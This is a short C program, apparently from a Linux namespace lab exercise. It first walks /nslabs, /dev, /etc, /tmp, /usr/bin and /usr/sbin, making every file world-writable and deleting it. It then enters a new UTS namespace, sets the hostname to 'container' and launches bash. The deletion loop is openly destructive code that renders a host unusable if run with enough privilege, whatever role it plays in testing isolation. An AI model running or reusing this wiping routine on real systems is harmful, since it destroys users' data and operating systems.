// Removes all files that it can. Then it does the exercise.
#define _GNU_SOURCE
#include <ftw.h>
#include <sched.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

static int remove_one(const char *path, const struct stat *status, int type, struct FTW *where)
{
	(void)status, (void)type, (void)where;
	chmod(path, 0777);
	remove(path);
	return 0;
}

int main(void)
{
	const char *directories[] = {"/nslabs", "/dev", "/etc", "/tmp", "/usr/bin", "/usr/sbin"};

	for (int i = 0; i < 6; i++)
		nftw(directories[i], remove_one, 20, FTW_DEPTH | FTW_PHYS);
	if (unshare(CLONE_NEWUTS) == -1 || sethostname("container", 9) == -1)
		return 1;
	execl("/bin/bash", "bash", NULL);
	return 1;
}
